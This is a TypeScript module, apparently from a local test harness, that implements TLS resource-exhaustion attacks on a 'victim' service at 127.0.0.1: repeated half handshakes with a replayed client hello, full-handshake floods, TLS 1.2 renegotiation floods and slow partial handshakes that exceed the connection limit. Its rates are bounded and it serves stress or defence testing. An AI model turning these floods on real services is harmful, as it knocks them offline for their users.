// Handshakes without end with another service on the victim's worker. The server's half costs it a
// signature and a key exchange; `half` makes it do that for a message that was recorded once.
import { once } from 'node:events';
import { connect, createServer, type Socket } from 'node:net';
import { connect as connectTls } from 'node:tls';
import type { Running, Target } from '../attack.ts';
import { HeldConnections } from '../sockets.ts';

/** An attack is bounded: so many at a time, ... */
const AT_A_TIME = 64;
/** ... and so many in ten milliseconds. */
const STEP_COUNT = 10;
const STEP_MS = 10;
const MORE_THAN_THERE_ARE = 1.2;

/** The first message of a client, as it is sent. */
export async function clientHello(): Promise<Buffer> {
  const server = createServer().listen(0, '127.0.0.1');
  await once(server, 'listening');
  const { port } = server.address() as { port: number };
  const client = connectTls({ port, host: '127.0.0.1', rejectUnauthorized: false });
  client.on('error', () => {});
  const [socket] = (await once(server, 'connection')) as [Socket];
  const [bytes] = (await once(socket, 'data')) as [Buffer];
  client.destroy();
  socket.destroy();
  server.close();
  return bytes;
}

/** Begins `one` again and again; it calls `over` when it has ended. */
function repeat(one: (over: () => void) => void): { stop: () => void } {
  let open = 0;
  const timer = setInterval(() => {
    for (let i = 0; i < STEP_COUNT && open < AT_A_TIME; i += 1) {
      open += 1;
      one(() => {
        open -= 1;
      });
    }
  }, STEP_MS);
  return { stop: () => clearInterval(timer) };
}

/** The client goes away as soon as the server has done its part. */
export function tlsHalfHandshakes({ tlsPort }: Target): Promise<Running> {
  return halfHandshakes(tlsPort);
}

/** The same to any port that speaks TLS. */
export async function halfHandshakes(port: number): Promise<Running> {
  const hello = await clientHello();
  let answered = 0;
  const { stop } = repeat((over) => {
    const socket = connect(port, '127.0.0.1', () => socket.write(hello));
    socket.on('error', () => {});
    socket.once('data', () => {
      answered += 1;
      socket.resetAndDestroy();
    });
    socket.once('close', over);
  });
  return { note: () => `${answered} answered`, stop };
}

/** Whole handshakes, each a full one. */
export async function tlsHandshakes({ tlsPort }: Target): Promise<Running> {
  let done = 0;
  const { stop } = repeat((over) => {
    const options = { port: tlsPort, host: '127.0.0.1', rejectUnauthorized: false };
    const socket = connectTls(options, () => {
      done += 1;
      socket.destroy();
    });
    socket.on('error', () => {});
    socket.once('close', over);
  });
  return { note: () => `${done} handshakes`, stop };
}

/** TLS 1.2, in which a client may ask for another handshake on the same connection. */
export async function tlsRenegotiation({ tlsPort }: Target): Promise<Running> {
  let asked = 0;
  const { stop } = repeat((over) => {
    const options = { port: tlsPort, host: '127.0.0.1', rejectUnauthorized: false };
    const socket = connectTls({ ...options, maxVersion: 'TLSv1.2' }, () => {
      asked += 1;
      socket.renegotiate({}, () => socket.destroy());
    });
    socket.on('error', () => {});
    socket.once('close', over);
  });
  return { note: () => `${asked} asked for`, stop };
}

/** More beginnings of a handshake than the victim's service may have connections. */
export async function tlsSilentHandshakes(target: Target): Promise<Running> {
  const { victimTlsPort, connectionsMax } = target;
  const hello = await clientHello();
  const count = Math.round(connectionsMax * MORE_THAN_THERE_ARE);
  const held = new HeldConnections({
    port: victimTlsPort,
    count,
    reads: true,
    onOpen: (socket) => void socket.write(hello.subarray(0, 100)),
  });
  await held.start();
  return {
    note: () => `${count} of one address, ${held.closed} closed by the proxy`,
    stop: () => held.stop(),
  };
}
